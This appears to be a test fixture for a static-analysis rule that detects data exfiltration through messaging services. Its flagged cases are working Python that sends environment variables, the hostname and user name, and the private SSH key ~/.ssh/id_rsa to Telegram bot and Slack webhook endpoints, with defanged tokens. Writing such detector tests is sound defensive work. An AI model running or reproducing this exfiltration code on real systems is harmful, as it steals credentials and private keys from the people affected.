import getpass
import json
import os
import platform
import socket
import subprocess

import requests

TOKEN = "0000000000:defanged-token-for-tests-only"
CHAT = "-100000"


def report():
    info = {"host": socket.gethostname(), "user": getpass.getuser(), "env": dict(os.environ)}
    # ruleid: messenger-exfil
    requests.post(f"https://api.telegram.org/bot{TOKEN}/sendMessage", data={"chat_id": CHAT, "text": json.dumps(info)})


def ship_keys():
    with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as fh:
        # ruleid: messenger-exfil
        requests.post("https://api.telegram.org/bot" + TOKEN + "/sendDocument", files={"document": fh})


SLACK = "https://hooks.slack.com/services/T000/B000/defanged"


def slack():
    who = subprocess.check_output(["whoami"]).decode()
    # ruleid: messenger-exfil
    requests.post(SLACK, json={"text": who + platform.node()})


def notify_build(status):
    # ok: messenger-exfil
    requests.post(SLACK, json={"text": f"build {status}"})


def version():
    # ok: messenger-exfil
    return requests.get("https://api.telegram.org/bot" + TOKEN + "/getMe").json()
